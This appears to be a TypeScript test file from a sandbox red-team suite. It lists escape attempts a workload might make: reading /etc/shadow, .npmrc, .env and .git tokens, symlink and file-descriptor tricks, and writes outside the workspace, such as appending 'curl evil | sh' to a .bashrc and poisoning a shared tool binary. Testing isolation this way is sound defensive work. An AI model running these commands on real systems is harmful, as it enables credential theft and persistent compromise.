import { sh } from './deed.ts';
import type { Deed } from './deed.ts';
import { SECRET } from '../scene.ts';

const reads = (path: string): Deed['run'] =>
  sh(`grep -rq '${SECRET}' ${path} 2>/dev/null && echo REACHED`);

/** What lies outside of the workspace, to read and to write. */
export const FILES: readonly Deed[] = [
  {
    name: 'reads /etc/shadow',
    needsRoot: true,
    run: sh(`grep -q '^root:' /etc/shadow && echo REACHED`),
  },
  { name: 'reads another checkout', run: reads('"$OUTSIDE/neighbour"') },
  { name: 'reads the home of whoever runs us', run: reads('"$OUTSIDE/user/.npmrc"') },
  { name: 'reads the runner’s own files', run: reads('"$OUTSIDE/runner"') },
  { name: 'reads the rest of the tool cache', run: reads('"$OUTSIDE/cache/node/20"') },
  { name: 'reads another checkout that the PATH names', run: reads('"$OUTSIDE/named"') },
  { name: 'reads the home that the PATH names', run: reads('"$OUTSIDE/user"') },
  {
    name: 'reads a checkout deep in what lies around programs',
    run: reads('"$OUTSIDE/user/dev" "$OUTSIDE/user/envs"'),
  },
  {
    name: 'reads the token in the checkout that a tool is',
    run: reads('"$OUTSIDE/user/.vm/plugins/build"'),
  },
  { name: 'reads what is hidden in the workspace', run: reads('.env') },
  { name: 'reads the token that the checkout left in .git/config', run: reads('.git') },
  {
    name: 'reads a secret through a symlink',
    run: sh(`ln -s "$OUTSIDE/neighbour/secret" here; grep -q '${SECRET}' here && echo REACHED`),
  },
  {
    name: 'writes outside of the workspace',
    run: sh('echo x >"$OUTSIDE/written"'),
    aftermath: 'test -e outside/written && echo REACHED',
  },
  {
    name: 'writes into the home of whoever runs us',
    run: sh('echo "curl evil | sh" >>"$OUTSIDE/user/.bashrc"'),
    aftermath: 'grep -q evil outside/user/.bashrc && echo REACHED',
  },
  {
    name: 'writes into the tools that others use after it',
    run: sh('echo evil >>"$OUTSIDE/cache/node/22/x64/bin/tool" && echo REACHED'),
    aftermath: 'grep -q evil outside/cache/node/22/x64/bin/tool && echo REACHED',
  },
  {
    name: 'writes into the system',
    needsRoot: true,
    run: sh(
      `for folder in /usr/bin /etc /var /opt; do touch "$folder/pawl-red-team" && echo REACHED; rm -f "$folder/pawl-red-team"; done`,
    ),
  },
  {
    name: 'writes through a symlink out of the workspace',
    run: sh('ln -s "$OUTSIDE" way; echo x >way/written'),
    aftermath: 'test -e outside/written && echo REACHED',
  },
  {
    name: 'puts another folder in the workspace’s place',
    run: sh('cd "$SCENE" && mv workspace moved && echo REACHED; mkdir workspace'),
    aftermath: 'test -e moved && echo REACHED',
  },
  {
    name: 'uses a folder that the parent left open',
    run: sh('for fd in /proc/self/fd/*; do test -e "$fd/neighbour/secret" && echo REACHED; done'),
  },
];
